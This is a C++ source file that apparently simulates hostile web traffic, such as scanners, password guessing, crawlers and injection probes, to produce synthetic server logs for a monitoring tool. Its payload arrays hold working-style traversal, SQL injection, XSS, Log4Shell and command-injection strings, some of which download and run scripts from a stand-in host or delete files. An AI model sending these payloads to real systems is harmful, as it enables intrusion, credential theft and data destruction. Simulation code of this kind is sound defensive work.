#include "simulate/web_attackers.h"

#include "simulate/web.h"
#include "simulate/words.h"

namespace vedette::simulate {
namespace {

using namespace std::chrono_literals;

constexpr std::array<Word, 22> kSensitive{
    "/.env",          "/.git/config",  "/.git/HEAD",          "/wp-config.php.bak",
    "/backup.zip",    "/backup.sql",   "/db.sql.gz",          "/.aws/credentials",
    "/.ssh/id_rsa",   "/config.json",  "/.htpasswd",          "/phpinfo.php",
    "/server-status", "/.DS_Store",    "/.svn/entries",       "/.vscode/sftp.json",
    "/api/.env",      "/laravel/.env", "/docker-compose.yml", "/id_rsa",
    "/dump.sql",      "/.npmrc"};

constexpr std::array<Word, 10> kTraversal{
    "/download?file=../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/images/..%252f..%252f..%252fetc%252fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/index.php?page=....//....//....//etc/shadow",
    "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
    "/view?path=/var/www/../../etc/hosts",
    "/assets/%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "/index.php?lang=php://filter/convert.base64-encode/resource=index.php",
    "/export?name=..%c0%af..%c0%afetc/passwd"};

constexpr std::array<Word, 10> kSql{
    "/collection?page=1%27%20OR%20%271%27=%271",
    "/collection?page=1%20UNION%20SELECT%20NULL,NULL,version()--%20-",
    "/search?q=lamp%27%20AND%20SLEEP(5)--%20-",
    "/search?q=1%20AND%201=CONVERT(int,(SELECT%20@@version))",
    "/collection?page=-1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users",
    "/api/v1/objects/1;DROP%20TABLE%20visits--",
    "/search?q=%27;%20WAITFOR%20DELAY%20%270:0:5%27--",
    "/collection?page=2%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)%3E0",
    "/events?id=7%20or%201=1",
    "/search?q=lamp%22)%20AND%20extractvalue(1,concat(0x7e,database()))%23"};

constexpr std::array<Word, 8> kXss{
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/contact?name=%3Csvg/onload=alert(document.domain)%3E",
    "/search?q=javascript:alert(document.cookie)",
    "/collection?page=%3Ciframe%20src=javascript:alert(1)%3E",
    "/search?q=%3Cbody%20onload=confirm(1)%3E",
    "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
    "/contact?mail=%3Cscript%20src=//198.51.100.66/x.js%3E%3C/script%3E"};

constexpr std::array<Word, 8> kCommands{
    "/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd",
    "/ping?ip=8.8.8.8%7Cid",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/o)",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.77/m"
    "+-O+/tmp/m;sh+/tmp/m",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/arm7;chmod+777+arm7;./arm7",
    "/api/v1/export?name=x%60wget%20http://198.51.100.77/s.sh%60",
    "/index.php?cmd=whoami",
    "/tools/dns?name=a%26%26curl%20198.51.100.77/k%7Csh"};

constexpr std::array<Word, 9> kHoles{
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?x=$%7Bjndi:ldap://198.51.100.77:1389/a%7D",
    "/?q=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://198.51.100.77/b%7D",
    "/actuator/gateway/routes",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di",
    "/solr/admin/info/system?wt=json",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/_ignition/execute-solution",
    "/owa/auth/x.js"};

constexpr std::array<Word, 6> kGarbage{
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
    "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
    "SSH-2.0-Go",
    "t3 12.1.2",
    "\\x00\\x0E8\\x8A\\xBC\\x9F",
    "MGLNDD_192.0.2.200_443"};

/// Goes through a list of requests that are refused, most of them with 404.
class ListRunner final : public Actor {
 public:
  ListRunner(Scene& scene, std::uint64_t seed, Attack attack)
      : Actor(scene, seed), attack_(attack), peer_(Peer::attacker(scene)) {
    agent_ = random_.below(2) == 0 ? pick(random_, kAgents) : pick(random_, kScriptAgents);
    left_ = how_many(random_, 14);
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    Request request{.agent = agent_, .attack = attack_};
    request.target = choose();
    choose_answer(request);
    answer(script, peer_, request);
    if (--left_ == 0) return {};
    return now + span_between(random_, 150ms, 6s);
  }

 private:
  std::string_view choose() {
    switch (attack_) {
      case Attack::WebSensitiveFiles:
        return pick(random_, kSensitive);
      case Attack::WebTraversal:
        return pick(random_, kTraversal);
      case Attack::WebSqlInjection:
        return pick(random_, kSql);
      case Attack::WebXss:
        return pick(random_, kXss);
      case Attack::WebCommandInjection:
        return pick(random_, kCommands);
      default:
        return pick(random_, kHoles);
    }
  }

  void choose_answer(Request& request) {
    const bool on_pages = attack_ == Attack::WebSqlInjection || attack_ == Attack::WebXss;
    const std::uint32_t turn = random_.below(100);
    if (on_pages && turn < 75) {
      request.bytes = 4'000 + random_.below(9'000);
      if (attack_ == Attack::WebSqlInjection && turn < 20) request.status = 500;
      return;
    }
    if (turn < 12) {
      request.status = 403;
      request.bytes = 162;
      request.trouble = Trouble::Forbidden;
      return;
    }
    if (attack_ == Attack::WebCveProbe && turn < 40) request.method = "POST";
    request.status = turn < 16 && attack_ == Attack::WebTraversal ? 400 : 404;
    request.bytes = 162;
    if (request.status == 404) {
      const bool script = request.target.find(".php") != std::string_view::npos;
      request.trouble = script ? Trouble::ScriptMissing : Trouble::NotFound;
    }
  }

  Attack attack_;
  Peer peer_;
  std::string_view agent_;
  std::uint32_t left_ = 0;
};

/// Passwords for the login page, or for a page behind basic authentication.
class AdminGuesser final : public Actor {
 public:
  AdminGuesser(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)) {
    basic_ = random_.below(2) == 0;
    left_ = how_many(random_, 40);
    agent_ = pick(random_, kAgents);
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    Request request{.agent = agent_, .attack = Attack::WebAdminBruteForce};
    if (basic_) {
      const bool known = random_.below(3) == 0;
      request.target = "/admin/";
      request.user = known ? "admin" : pick(random_, kGuessedNames);
      request.status = 401;
      request.bytes = 381;
      request.trouble = known ? Trouble::WrongPassword : Trouble::UnknownUser;
    } else {
      request.method = "POST";
      request.target = "/wp-login.php";
      request.referrer = "https://www.example.org/wp-login.php";
      request.bytes = 4'512;
      if (random_.below(12) == 0) {
        request.status = 429;
        request.bytes = 162;
        request.trouble = Trouble::RateLimited;
      }
    }
    answer(script, peer_, request);
    if (--left_ == 0) return {};
    return now + span_between(random_, 300ms, 4s);
  }

 private:
  Peer peer_;
  bool basic_;
  std::uint32_t left_;
  std::string_view agent_;
};

/// Takes everything, several pages a second.
class Crawler final : public Actor {
 public:
  Crawler(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(how_many(random_, 80)) {
    agent_ = random_.below(2) == 0 ? pick(random_, kScriptAgents) : pick(random_, kAgents);
    next_ = random_.below(2'000);
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    const std::string target = "/collection/object-" + std::to_string(100 + next_++ % 2900);
    Request request{.target = target, .agent = agent_, .attack = Attack::WebCrawler};
    request.bytes = 8'000 + random_.below(30'000);
    answer(script, peer_, request);
    if (--left_ == 0) return {};
    return now + span_between(random_, 60ms, 400ms);
  }

 private:
  Peer peer_;
  std::uint32_t left_, next_ = 0;
  std::string_view agent_;
};

/// Says who it is and asks for what is not there, in a burst.
class Scanner final : public Actor {
 public:
  Scanner(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(how_many(random_, 50)) {
    agent_ = pick(random_, kScannerAgents);
  }

  std::optional<Time> act(Time now) override {
    static constexpr std::array<Word, 12> kStems{"admin",  "old",     "test",    "api",
                                                 "backup", "manager", "config",  "portal",
                                                 "login",  "dev",     "console", "private"};
    static constexpr std::array<Word, 6> kEndings{"", "/", ".php", ".bak", ".zip", ".asp"};
    Script script{scene_.stage, random_, now};
    std::string target = "/" + std::string(pick(random_, kStems));
    if (random_.below(2) == 0) target += std::to_string(random_.below(30));
    target += pick(random_, kEndings);
    Request request{.target = target, .agent = agent_, .attack = Attack::WebScanner};
    if (random_.below(4) == 0) request.method = "HEAD";
    const bool forbidden = random_.below(20) == 0;
    request.status = forbidden ? 403 : 404;
    request.bytes = 162;
    request.trouble = forbidden ? Trouble::NoIndex : Trouble::NotFound;
    answer(script, peer_, request);
    if (--left_ == 0) return {};
    return now + span_between(random_, 20ms, 300ms);
  }

 private:
  Peer peer_;
  std::uint32_t left_;
  std::string_view agent_;
};

class Babbler final : public Actor {
 public:
  Babbler(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(random_.between(4, 20)) {}

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    answer_malformed(script, peer_, pick(random_, kGarbage));
    if (--left_ == 0) return {};
    return now + span_between(random_, 500ms, 40s);
  }

 private:
  Peer peer_;
  std::uint32_t left_;
};

}  // namespace

std::unique_ptr<Actor> make_web_attacker(Attack attack, Scene& scene, std::uint64_t seed) {
  switch (attack) {
    case Attack::WebSensitiveFiles:
    case Attack::WebTraversal:
    case Attack::WebSqlInjection:
    case Attack::WebXss:
    case Attack::WebCommandInjection:
    case Attack::WebCveProbe:
      return std::make_unique<ListRunner>(scene, seed, attack);
    case Attack::WebAdminBruteForce:
      return std::make_unique<AdminGuesser>(scene, seed);
    case Attack::WebCrawler:
      return std::make_unique<Crawler>(scene, seed);
    case Attack::WebScanner:
      return std::make_unique<Scanner>(scene, seed);
    case Attack::WebMalformed:
      return std::make_unique<Babbler>(scene, seed);
    default:
      return nullptr;
  }
}

}  // namespace vedette::simulate
